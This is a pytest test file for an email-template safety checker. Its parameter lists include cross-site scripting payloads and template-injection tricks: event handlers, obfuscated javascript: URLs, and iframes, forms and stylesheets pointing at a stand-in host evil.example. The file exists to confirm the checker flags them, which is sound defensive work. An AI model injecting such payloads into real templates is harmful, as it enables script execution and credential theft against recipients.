import pytest

from tests.fixtures.templates import CATALOGUE
from tidings.templates.checks.safety import dangers_in
from tidings.templates.compiling import html_of


@pytest.mark.parametrize("milestone", sorted(CATALOGUE.milestones))
def test_our_own_layouts_are_safe(milestone):
    mjml = CATALOGUE.layout("mjml", CATALOGUE.milestones[milestone].blocks)
    assert dangers_in(html_of(mjml, "mjml", right_to_left=False)) == []


@pytest.mark.parametrize(
    "html",
    [
        '<p style="color:{{ color }}">{{ note }}</p>',
        '<a href="{{ tracking_url }}">{{ label_track }}</a>',
        '<a href="mailto:{{ shop_email }}">{{ shop_email }}</a><a href="tel:{{ shop_phone_dialled }}">x</a>',
        '<a href="https://shop.example/help?x=1#top">help</a><a href="#products">x</a>',
        '<img src="{{ shop_logo }}" alt="{{ shop_name }}">',
        '<script type="application/ld+json">{{ markup }}</script>',
        "<!--[if mso]><noscript><xml><o:AllowPNG></o:AllowPNG></xml></noscript><![endif]-->",
    ],
)
def test_what_is_safe_is_let_pass(html):
    assert dangers_in(html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script type="application/ld+json">{{ markup }}; alert(1)</script>',
        '<script type="application/ld+json">{{ note }}</script>',
        '<script type="text/javascript" src="https://evil.example/x.js"></script>',
        '<img src="https://x.example/x.png" onerror="alert(1)">',
        '<body onload="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="{{ note }}">x</a>',
        '<a href="https://evil.example/?to={{ name }}">x</a>',
        '<a href="{% if note %}javascript:alert(1){% endif %}">x</a>',
        "<a href={{ order_url }}>x</a>",
        '<a title="{% if note %}"{% endif %} onclick="alert(1)">x</a>',
        "<{{ note }}>",
        '<a {{ note }}="x">y</a>',
        "<iframe src='https://evil.example'></iframe>",
        "<form action='https://evil.example'><input name='password'></form>",
        "<object data='https://evil.example'></object>",
        "<svg><animate onbegin='alert(1)'></svg>",
        "<base href='https://evil.example'>",
        "<link rel='stylesheet' href='https://evil.example/x.css'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>p { background: url(http://evil.example/x.png) }</style>",
        "<style>p { color: {{ note }} }</style>",
        "<style>{% if note %}</style><script>alert(1)</script><style>{% endif %}</style>",
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="{{ note }}">x</p>',
        "<!-- {{ note }} -->",
        "{% if note %}<!-- {% endif %}<script>alert(1)</script>{% if note %} -->{% endif %}",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
    ],
)
def test_what_runs_reaches_out_or_could_turn_into_that_is_found(html):
    assert dangers_in(html)
